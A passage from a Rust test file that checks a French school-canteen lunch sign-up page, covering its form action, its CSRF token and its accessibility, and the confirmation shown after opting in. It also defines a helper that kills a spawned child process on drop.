    assert!(before.text().contains("pas inscrit"), "{}", before.html());
    assert!(
        before
            .html()
            .contains(r#"action="/action/test/test-window""#),
        "{}",
        before.html()
    );
    assert!(
        before.html().contains(r#"value="test-csrf""#),
        "{}",
        before.html()
    );
    before.assert_accessible();
    cantine.action([("lunch", "oui")]).await.unwrap();
    let after = cantine.render().await.unwrap();
    assert!(
        after.text().contains("Vous déjeunez à la cantine demain"),
        "{}",
        after.html()
    );
}

/// Kills a child process when dropped.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
